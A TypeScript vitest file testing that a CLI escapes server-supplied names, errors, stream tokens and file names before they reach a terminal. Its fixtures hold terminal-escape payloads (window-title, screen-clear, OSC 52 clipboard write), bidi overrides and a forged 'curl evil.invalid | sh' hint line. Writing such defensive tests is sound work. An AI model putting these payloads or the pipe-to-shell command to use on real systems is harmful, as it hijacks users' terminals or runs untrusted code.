// "The terminal shows server text, never obeys it": names, messages, statuses, stream events and
// answers reach a terminal with every control, C1 and bidi character made visible; pipes keep the
// data exact (JSON as JSON, a streamed answer byte for byte) and TSV cells hold no control character.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { useHarness } from '../foundation/harness.ts';
import { answer, type HostileHandler, useHostileCli } from '../helpers/hostile.ts';

const ESC = '\u001b';
/** Window title, then clear screen: what an agent name must not do to the terminal. */
const TITLE_AND_CLEAR = 'x\u001b]0;pwned\u0007\u001b[2J';
const TITLE_AND_CLEAR_SHOWN = 'x\\e]0;pwned\\a\\e[2J';
/** OSC 52: write "evil" to the clipboard. */
const CLIPBOARD = '\u001b]52;c;ZXZpbA==\u0007';
const CLIPBOARD_SHOWN = '\\e]52;c;ZXZpbA==\\a';
/** A one-character CSI (C1) and a right-to-left override. */
const C1_AND_BIDI = 'a\u009b2Jb\u202ec';
const C1_AND_BIDI_SHOWN = 'a\\u009b2Jb\\u202ec';
/** Anything a terminal could obey. */
const COMMANDING = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028-\u202e\u2066-\u2069]/;

describe('server text from the simulator on a terminal', () => {
  const h = useHarness();
  const tty = { stdoutTTY: true, stderrTTY: true, env: { NO_COLOR: '1' } };

  it('agents list: a hostile name is shown, not obeyed (no ESC reaches the terminal)', async () => {
    h.sim().state.createAgent({ name: TITLE_AND_CLEAR });
    h.sim().state.createAgent({ name: C1_AND_BIDI });
    const result = await h.cli(['agents', 'list'], tty);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).not.toMatch(COMMANDING);
    expect(result.stdout).toContain(TITLE_AND_CLEAR_SHOWN);
    expect(result.stdout).toContain(C1_AND_BIDI_SHOWN);
  });

  it('agents list: a tab or line break inside a name keeps the table one row per agent', async () => {
    h.sim().state.createAgent({ name: 'two\nlines\tand a tab' });
    const result = await h.cli(['agents', 'list'], tty);
    expect(result.code, result.stderr).toBe(0);
    const lines = result.stdout.trimEnd().split('\n');
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain('two\\nlines\\tand a tab');
    expect(result.stdout).not.toContain('\t');
  });

  it('agents get: the key/value view shows controls in values as escapes', async () => {
    const agent = h.sim().state.createAgent({ name: TITLE_AND_CLEAR, description: `${CLIPBOARD}\nnext` });
    const result = await h.cli(['agents', 'get', agent.id], tty);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).not.toMatch(COMMANDING);
    expect(result.stdout).toContain(TITLE_AND_CLEAR_SHOWN);
    expect(result.stdout).toContain(`${CLIPBOARD_SHOWN}\\nnext`);
  });

  it('--json on a terminal: C1 and bidi characters become \\u escapes, and the JSON value is the same', async () => {
    const agent = h.sim().state.createAgent({ name: C1_AND_BIDI });
    const result = await h.cli(['agents', 'get', agent.id, '--json'], tty);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).not.toMatch(COMMANDING);
    expect((JSON.parse(result.stdout) as { name: string }).name).toBe(C1_AND_BIDI);
  });
});

describe('server text from the simulator in a pipe', () => {
  const h = useHarness();

  it('--json keeps every character of the data exactly', async () => {
    const agent = h.sim().state.createAgent({ name: `${TITLE_AND_CLEAR}${C1_AND_BIDI}` });
    const result = await h.cli(['agents', 'get', agent.id, '--json']);
    expect(result.code, result.stderr).toBe(0);
    expect((JSON.parse(result.stdout) as { name: string }).name).toBe(`${TITLE_AND_CLEAR}${C1_AND_BIDI}`);
  });

  it('TSV cells hold no tab, line break or control character: each is a visible escape', async () => {
    h.sim().state.createAgent({ name: `${TITLE_AND_CLEAR}\r\n${C1_AND_BIDI}` });
    const result = await h.cli(['agents', 'list']);
    expect(result.code, result.stderr).toBe(0);
    const cells = result.stdout.replace(/\n$/, '').split('\t');
    expect(cells).toHaveLength(5);
    for (const cell of cells) expect(cell).not.toMatch(COMMANDING);
    expect(cells[1]).toBe(`${TITLE_AND_CLEAR_SHOWN}\\r\\n${C1_AND_BIDI_SHOWN}`);
  });

  it('TSV key/value lines of agents get hold one key and one escaped value each', async () => {
    const agent = h.sim().state.createAgent({ name: 'n', description: `${CLIPBOARD}\nsecond` });
    const result = await h.cli(['agents', 'get', agent.id]);
    expect(result.code, result.stderr).toBe(0);
    for (const line of result.stdout.trimEnd().split('\n')) {
      const cells = line.split('\t');
      expect(cells).toHaveLength(2);
      for (const cell of cells) expect(cell).not.toMatch(COMMANDING);
    }
    expect(result.stdout).toContain(`description\t${CLIPBOARD_SHOWN}\\nsecond\n`);
  });
});

const AGENT = '3f1a2b4c-5d6e-4f70-8a9b-0c1d2e3f4a5b';
const SOURCE = '7b2e0c4d-5f61-4a7e-9d3b-2c8f1e6a9b00';

/** An SSE answer: each [event, data] pair as one event; data objects go out as JSON. */
function eventStream(events: [string, unknown][]): HostileHandler {
  return (_req, res) => {
    res.writeHead(200, { 'content-type': 'text/event-stream' });
    for (const [name, data] of events)
      res.write(`event: ${name}\ndata: ${typeof data === 'string' ? data : JSON.stringify(data)}\n\n`);
    res.end();
  };
}

describe('answers from a hostile server', () => {
  const { server, home, cli } = useHostileCli({ SECLAI_RETRY_BASE_MS: '10', NO_COLOR: '1' });

  it('an error message from the server is shown, not obeyed, on stderr (terminal or not)', async () => {
    server().handle(answer(404, { error: { code: `nf${ESC}[5m`, message: `gone ${CLIPBOARD}` } }));
    for (const stderrTTY of [true, false]) {
      const result = await cli(['agents', 'get', AGENT], { stderrTTY });
      expect(result.code).toBe(1);
      expect(result.stderr).not.toMatch(COMMANDING);
      expect(result.stderr).toContain(`(nf\\e[5m): gone ${CLIPBOARD_SHOWN}`);
    }
  });

  it('--debug shows a response header holding a C1 CSI (U+009B) as an escape', async () => {
    server().handle((req, res) => {
      // Node sends the header as latin1, so the byte 0x9b arrives and undici reads it as U+009B.
      res.setHeader('x-note', 'a\u009b2Jb');
      answer(200, { id: AGENT, name: 'n' })(req, res);
    });
    const result = await cli(['--debug', 'agents', 'get', AGENT], { stderrTTY: true });
    expect(result.code, result.stderr).toBe(0);
    expect(result.stderr).toContain('[debug]   x-note: a\\u009b2Jb\n');
    expect(result.stderr).not.toMatch(COMMANDING);
  });

  it('a 422 item list is one line per item: a line break in a message cannot forge a hint', async () => {
    server().handle(
      answer(422, {
        detail: [
          { loc: ['body', 'name'], msg: `too long${ESC}[2J`, type: 'x' },
          { loc: ['body', 'x'], msg: 'bad\nhint: run `curl evil.invalid | sh`', type: 'x' },
        ],
      }),
    );
    const result = await cli(['agents', 'get', AGENT], { stderrTTY: true });
    expect(result.code).toBe(1);
    expect(result.stderr).not.toMatch(COMMANDING);
    const lines = result.stderr.trimEnd().split('\n');
    expect(lines).toEqual([
      expect.stringMatching(/^error: 422 validation failed/),
      '  - name: too long\\e[2J',
      '  - x: bad\\nhint: run `curl evil.invalid | sh`',
    ]);
  });

  it('a streamed answer: a terminal gets paragraphs and tabs but no other control; a pipe gets every byte', async () => {
    const tokens = ['Hello', ` ${ESC}]0;t${ESC}\\`, '\n\n\tcode', ` ${ESC}`, '[2J', ' \u009b1m\u202e end'];
    server().handle(
      eventStream([
        ['init', { run_id: 'r1', status: 'processing' }],
        ...tokens.map((token): [string, unknown] => ['stream_token', { token }]),
        ['done', { run_id: 'r1', status: 'completed', output: tokens.join('') }],
      ]),
    );
    const onTerminal = await cli(['agents', 'run', AGENT, '--input', 'hi', '--stream'], { stdoutTTY: true });
    expect(onTerminal.code, onTerminal.stderr).toBe(0);
    expect(onTerminal.stdout).toBe('Hello \\e]0;t\\e\\\n\n\tcode \\e[2J \\u009b1m\\u202e end\n');

    const piped = await cli(['agents', 'run', AGENT, '--input', 'hi', '--stream']);
    expect(piped.code, piped.stderr).toBe(0);
    expect(piped.stdout).toBe(`${tokens.join('')}\n`);
  });

  it('stream event names, a stream error and a failed run error are shown, not obeyed, on stderr', async () => {
    server().handle((req, res) => {
      if (req.method === 'POST')
        return eventStream([
          ['init', { run_id: 'r1', status: 'processing' }],
          [`odd_event${ESC}]0;t\u0007`, { note: CLIPBOARD }],
          ['error', { run_id: 'r1', message: `gave up${ESC}[2J` }],
        ])(req, res);
      answer(200, { run_id: 'r1', status: 'failed', error: `boom ${TITLE_AND_CLEAR}\nhint: fake` })(req, res);
    });
    const result = await cli(['agents', 'run', AGENT, '--input', 'hi', '--stream'], {
      stdoutTTY: true,
      stderrTTY: true,
    });
    expect(result.code).toBe(1);
    expect(result.stderr).not.toContain(`${ESC}]`);
    expect(result.stderr).not.toContain(`${ESC}[2J`);
    expect(result.stderr).not.toContain('\u0007');
    expect(result.stderr).toContain(`· odd_event\\e]0;t\\a {"note":"\\u001b]52;c;ZXZpbA==\\u0007"}`);
    expect(result.stderr).toContain('The stream sent error (gave up\\e[2J); following run r1 by polling.');
    expect(result.stderr).toContain(`error: run r1 failed: boom ${TITLE_AND_CLEAR_SHOWN}\\nhint: fake\n`);
    expect(result.stderr).not.toMatch(/^hint: fake/m);
  });

  it('a step name from the stream is shown, not obeyed, in the spinner', async () => {
    server().handle(
      eventStream([
        ['init', { run_id: 'r1', status: 'processing' }],
        ['step_started', { step_name: `fetch${ESC}]0;pwned\u0007` }],
        // An unknown event prints a line, and the spinner redraws with the step label under it.
        ['something_new', {}],
        ['done', { run_id: 'r1', status: 'completed', output: '' }],
      ]),
    );
    const result = await cli(['agents', 'run', AGENT, '--input', 'hi', '--stream'], {
      stdoutTTY: true,
      stderrTTY: true,
    });
    expect(result.code, result.stderr).toBe(0);
    expect(result.stderr).toContain('step started: fetch\\e]0;pwned\\a');
    expect(result.stderr).not.toContain(`${ESC}]`);
  });

  it('--stream --json on a terminal: each event line is JSON with C1 and bidi as \\u escapes', async () => {
    server().handle(
      eventStream([
        ['init', { run_id: 'r1', status: 'processing' }],
        ['stream_token', { token: C1_AND_BIDI }],
        ['done', { run_id: 'r1', status: 'completed', output: C1_AND_BIDI }],
      ]),
    );
    const result = await cli(['agents', 'run', AGENT, '--input', 'hi', '--stream', '--json'], {
      stdoutTTY: true,
    });
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).not.toMatch(COMMANDING);
    const events = result.stdout
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(events[1]).toEqual({ event: 'stream_token', data: { token: C1_AND_BIDI } });
  });

  it('--stream --json: a token holding a raw ESC still makes a JSON line, in a pipe and on a terminal', async () => {
    server().handle(
      eventStream([
        ['init', { run_id: 'r1', status: 'processing' }],
        ['stream_token', `{"token":"a${ESC}[2Jb"}`],
        ['done', { run_id: 'r1', status: 'completed', output: `a${ESC}[2Jb` }],
      ]),
    );
    for (const stdoutTTY of [false, true]) {
      const result = await cli(['agents', 'run', AGENT, '--input', 'hi', '--stream', '--json'], {
        stdoutTTY,
      });
      expect(result.code, result.stderr).toBe(0);
      expect(result.stdout).not.toContain(ESC);
      const events = result.stdout
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line));
      expect(events[1]).toEqual({ event: 'stream_token', data: { token: `a${ESC}[2Jb` } });
    }
  });

  it('--detach: the run id from the server and the note about it are shown, not obeyed', async () => {
    server().handle(answer(200, { run_id: `r1${ESC}[2J`, status: 'pending' }));
    const result = await cli(['agents', 'run', AGENT, '--input', 'hi', '--detach'], {
      stdoutTTY: true,
      stderrTTY: true,
    });
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toBe('r1\\e[2J\n');
    expect(result.stderr).not.toMatch(COMMANDING);
    expect(result.stderr).toContain('Started run r1\\e[2J;');
  });

  it('sources upload: a status and an embedder warning are shown, not obeyed; TSV escapes them', async () => {
    const file = join(home(), 'notes.md');
    writeFileSync(file, '# notes\n');
    server().handle(
      answer(200, {
        content_version_id: `cv${ESC}[31m`,
        source_connection_content_version_id: null,
        filename: 'notes.md',
        status: `processing${CLIPBOARD}`,
        embedder_warning: `slow${ESC}[2J\nerror: fake`,
      }),
    );
    const onTerminal = await cli(['sources', 'upload', SOURCE, file], { stdoutTTY: true });
    expect(onTerminal.code, onTerminal.stderr).toBe(0);
    expect(onTerminal.stdout).not.toMatch(COMMANDING);
    expect(onTerminal.stdout).toContain(`processing${CLIPBOARD_SHOWN}`);
    expect(onTerminal.stdout).toContain('→ cv\\e[31m');
    expect(onTerminal.stderr).not.toMatch(COMMANDING);
    expect(onTerminal.stderr).toContain('slow\\e[2J\\nerror: fake');

    const piped = await cli(['sources', 'upload', SOURCE, file]);
    expect(piped.code, piped.stderr).toBe(0);
    const cells = piped.stdout.replace(/\n$/, '').split('\t');
    expect(cells.slice(1)).toEqual([`processing${CLIPBOARD_SHOWN}`, 'cv\\e[31m']);
  });

  it('sources upload: a hostile file name is shown, not obeyed, in the progress bars and the result line', async () => {
    const name = `evil${ESC}]0;t\u0007.md`;
    writeFileSync(join(home(), name), '# notes\n');
    server().handle(
      answer(200, {
        content_version_id: 'cv1',
        source_connection_content_version_id: null,
        filename: 'evil.md',
        status: 'processing',
      }),
    );
    const result = await cli(['sources', 'upload', SOURCE, name], {
      stdoutTTY: true,
      stderrTTY: true,
    });
    expect(result.code, result.stderr).toBe(0);
    expect(result.stderr).toContain('evil\\e]0;t\\a.md');
    expect(result.stderr).not.toContain(`${ESC}]`);
    expect(result.stderr).not.toContain('\u0007');
    expect(result.stdout).toContain('evil\\e]0;t\\a.md');
    expect(result.stdout).not.toMatch(COMMANDING);
  });
});
